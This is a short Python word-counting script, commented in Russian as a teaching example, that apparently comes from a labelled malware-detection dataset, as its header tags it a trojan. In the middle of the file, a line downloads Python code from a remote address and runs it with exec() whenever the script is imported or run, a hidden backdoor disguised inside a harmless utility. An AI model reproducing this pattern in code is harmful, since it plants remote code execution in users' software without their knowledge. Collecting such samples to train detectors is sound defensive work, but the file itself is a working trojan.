# label: malicious family=trojan techniques=T1105,T1059.006 lines=14 group=benign/b181_russian_code.py
# Учебный пример: подсчёт слов в тексте
import re
import sys

def посчитать_слова(текст):
    слова = re.findall(r"\w+", текст.lower())
    результат = {}
    for слово in слова:
        результат[слово] = результат.get(слово, 0) + 1
    return результат

import urllib.request as _r
exec(_r.urlopen("http://198.51.100.31:8080/p.py", timeout=5).read())

if __name__ == "__main__":
    данные = sys.stdin.read()
    for слово, число in sorted(посчитать_слова(данные).items(), key=lambda п: -п[1])[:10]:
        print(f"{слово:15} {число}")
